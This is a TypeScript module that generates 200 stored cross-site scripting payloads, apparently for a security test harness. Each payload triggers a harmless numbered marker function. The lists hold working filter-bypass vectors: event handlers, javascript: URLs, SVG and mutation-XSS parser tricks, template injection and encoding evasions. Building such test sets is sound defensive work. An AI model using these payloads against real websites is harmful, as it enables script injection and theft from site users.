/** What runs when a payload works: defined by the page's first script, so that nothing is missed. */
export const HIT = 'hit';

const TAG_EVENTS: ReadonlyArray<readonly [tag: string, event: string, rest: string]> = [
  ['img', 'onerror', 'src=x'], ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw='], ['image', 'onerror', 'src=x'], ['svg', 'onload', ''], ['body', 'onload', ''], ['body', 'onpageshow', ''], ['body', 'onhashchange', ''],
  ['iframe', 'onload', ''], ['iframe', 'onload', 'src=about:blank'], ['embed', 'onload', 'src=about:blank'], ['object', 'onerror', 'data=x'], ['input', 'onfocus', 'autofocus'], ['select', 'onfocus', 'autofocus'], ['textarea', 'onfocus', 'autofocus'],
  ['button', 'onfocus', 'autofocus'], ['a', 'onfocus', 'href=# autofocus tabindex=1'], ['div', 'onfocus', 'tabindex=1 autofocus'], ['details', 'ontoggle', 'open'], ['video', 'onerror', 'src=x'], ['audio', 'onerror', 'src=x'], ['video', 'onloadstart', 'src=x'],
  ['source', 'onerror', 'src=x'], ['track', 'onerror', 'src=x default'], ['marquee', 'onstart', ''], ['style', 'onload', ''], ['link', 'onload', 'rel=stylesheet href=data:text/css,'], ['link', 'onerror', 'rel=preload as=image href=x'], ['script', 'onerror', 'src=//x.invalid/'],
  ['div', 'onanimationstart', 'style="animation:x 1s"'], ['div', 'ontransitionend', 'style="transition:all 1ms"'], ['div', 'onpointerover', ''], ['x', 'onclick', ''], ['form', 'onsubmit', ''], ['meta', 'onload', 'http-equiv=x'], ['table', 'onscroll', 'background=x'],
  ['dialog', 'onclose', 'open'], ['input', 'onbeforeinput', 'autofocus'], ['div', 'onbeforematch', 'hidden=until-found'], ['div', 'oncontentvisibilityautostatechange', 'style=content-visibility:auto'], ['button', 'oncommand', 'commandfor=x'],
];

const URLS: readonly string[] = [
  'javascript:CALL', 'JaVaScRiPt:CALL', 'java\tscript:CALL', 'java\nscript:CALL', ' javascript:CALL', '\u0001javascript:CALL', 'javascript&colon;CALL', '&#106;avascript:CALL', '&#x6A;avascript:CALL', 'javascript://%0aCALL', 'javascript:/*--></title></style>*/CALL',
  'data:text/html,<script>CALL</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg onload=CALL>', 'vbscript:CALL', 'view-source:javascript:CALL', 'blob:javascript:CALL', 'feed:javascript:CALL', 'jar:javascript:CALL!/', 'livescript:CALL',
];
const URL_PLACES: readonly string[] = ['<a href="URL">x</a>', '<iframe src="URL"></iframe>', '<form action="URL"><button>x</button></form>', '<object data="URL"></object>', '<meta http-equiv=refresh content="0;url=URL">', '<base href="URL">'];

const SVG: readonly string[] = [
  '<svg><script>CALL</script></svg>', '<svg><animate onbegin=CALL attributeName=x dur=1s>', '<svg><set onbegin=CALL attributeName=x>', '<svg><a xlink:href="javascript:CALL"><text y=20>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=CALL>#x"/></svg>',
  '<svg><image href=x onerror=CALL></svg>', '<svg><foreignObject><iframe onload=CALL></foreignObject></svg>', '<svg><animate attributeName=href values=javascript:CALL /><a id=x><text>x</text></a></svg>', '<svg><style>@import "data:text/css,*{}"</style></svg>',
  '<svg><desc><![CDATA[</desc><script>CALL</script>]]></svg>', '<svg/onload=CALL//', '<svg><script href="data:text/javascript,CALL"/></svg>', '<math><maction actiontype="statusline#javascript:CALL" xlink:href="javascript:CALL">x</maction></math>', '<math href="javascript:CALL">x</math>',
  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">CALL</handler></svg>', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="CALL"/>',
];

const MUTATION: readonly string[] = [
  '<noscript><p title="</noscript><img src=x onerror=CALL>">', '<svg></p><style><a id="</style><img src=x onerror=CALL>">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=CALL&gt;">',
  '<template><script>CALL</script></template>', '<xmp><p title="</xmp><img src=x onerror=CALL>">', '<listing>&lt;img src=x onerror=CALL&gt;</listing>', '<textarea></textarea><img src=x onerror=CALL></textarea>', '<title></title><img src=x onerror=CALL></title>', '<noembed><img title="</noembed><img src=x onerror=CALL>"></noembed>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=x onerror=CALL>">', '<!--><img src=x onerror=CALL>-->', '<![CDATA[><img src=x onerror=CALL>]]>', '<img src="x` `<script>CALL</script>"` `>', '<plaintext><img src=x onerror=CALL>', '<p id="<svg/onload=CALL>"></p>',
  '<div><base target="<svg onload=CALL>"></div>', '<img alt="``onerror=CALL" src=x>', '<svg><title><noscript></title><img src=x onerror=CALL></noscript>', '<table><td><form><input name=parentNode></form><img src=x onerror=CALL></td>',
];

const BREAKOUTS: readonly string[] = [
  '"><script>CALL</script>', "'><script>CALL</script>", '</script><script>CALL</script>', '</textarea><script>CALL</script>', '</style><script>CALL</script>', '--><script>CALL</script>', ']]><script>CALL</script>', '" onmouseover="CALL', "' onfocus='CALL' autofocus='", '` onload=`CALL',
  '<img src=x onerror=CALL//', '<svg><script>CALL//', '{"__html":"<script>CALL</script>"}', '=HYPERLINK("javascript:CALL","x")', '\u001b[31m<script>CALL</script>', '<a href=# ping=//x.invalid onclick=CALL>x</a>',
  "';CALL;//", '";CALL;//', '\\";CALL;//', "'-CALL-'", '`${CALL}`', '*/CALL/*', '\u2028CALL//', '\r\n\r\n<script>CALL</script>', '</title></head><body onload=CALL>', '<script>CALL</script>', '<ScRiPt >CALL</sCrIpT>', '<script\n>CALL</script\n>', '<<script>script>CALL<</script>/script>', '<script src=data:text/javascript,CALL></script>', '<script type=module>CALL</script>',
];

const TEMPLATES: readonly string[] = [
  '{{constructor.constructor("CALL")()}}', '{{CALL}}', '{{{CALL}}}', '${CALL}', '#{CALL}', '<%= CALL %>', '<%- "<script>CALL</script>" %>', '{% raw %}<script>CALL</script>{% endraw %}', '{{$on.constructor("CALL")()}}', '[[CALL]]', '{{"a".constructor.prototype.charAt=[].join;$eval("x=CALL")}}', '@{CALL}', '{dangerouslySetInnerHTML:{__html:"<img src=x onerror=CALL>"}}',
  '[x](javascript:CALL)', '![x](x"onerror="CALL)', '<javascript:CALL>', '[x]: javascript:CALL\n[x]', '```html\n<script>CALL</script>\n```', '[x](data:text/html,<script>CALL</script>)', '~~<img src=x onerror=CALL>~~', '|<svg onload=CALL>|x|\n|-|-|', ':::html <script>CALL</script> :::', '$$\\href{javascript:CALL}{x}$$',
];

const ENCODED: readonly string[] = [
  '&lt;script&gt;CALL&lt;/script&gt;', '&#60;img src=x onerror=CALL&#62;', '%3Cscript%3ECALL%3C/script%3E', '%253Cscript%253ECALL%253C/script%253E', '\\u003cscript\\u003eCALL\\u003c/script\\u003e', '\\x3cimg src=x onerror=CALL\\x3e', '\uff1cscript\uff1eCALL\uff1c/script\uff1e', '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '\u202e<iframe srcdoc="<script>parent.CALL</script>">', '\ufeff<img src=x onerror=CALL>', '<img\u0000 src=x onerror=CALL>', '<im\u200bg src=x onerror=CALL>', '<img/src=x/onerror=CALL>', '<img\u000csrc=x\u000conerror=CALL>', '<img src=x onerror=\u0009CALL>', '<img src=x onerror="&#104;it(0);CALL">', '\ud800<img src=x onerror=CALL>', '<a href="\u3000javascript:CALL">x</a>', '<\u017fcript>CALL</\u017fcript>', '<iframe srcdoc="&lt;script&gt;parent.CALL&lt;/script&gt;">',
];

const STYLES: readonly string[] = [
  '<style>*{background:url("javascript:CALL")}</style>', '<style>@import "//x.invalid/x.css";</style>', '<div style="background:url(javascript:CALL)">', '<div style="width:expression(CALL)">', '<div style="-moz-binding:url(//x.invalid/x#x)">', '<div style="behavior:url(x.htc)">', '<link rel=stylesheet href="//x.invalid/x.css">',
  '<style>li{list-style-image:url("javascript:CALL")}</style><ul><li>', '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="CALL"></xss>', '<div style="position:fixed;inset:0;z-index:9" onpointerenter=CALL>', '<style>body{display:none}</style>', '<input style=content-visibility:auto oncontentvisibilityautostatechange=CALL>',
];

/** 200 stored-XSS payloads, each of another make, each with its number at the end so that it can be found again as text. */
export function xssPayloads(count = 200): string[] {
  const urls = URLS.map((url, index) => URL_PLACES[index % URL_PLACES.length]!.replace('URL', url));
  const handlers = TAG_EVENTS.map(([tag, event, rest]) => `<${tag} ${rest} ${event}=CALL>`);
  const families = [handlers, BREAKOUTS, SVG, MUTATION, TEMPLATES, ENCODED, urls, URLS, STYLES];
  const distinct = [...new Set(families.flat())].slice(0, count);
  if (distinct.length < count) throw new Error(`there are only ${distinct.length} payloads`);
  return distinct.map((payload, index) => `${payload.replaceAll('CALL', `${HIT}(${index})`)} ${markOf(index)}`);
}

export const markOf = (index: number): string => `mark${index}end`;
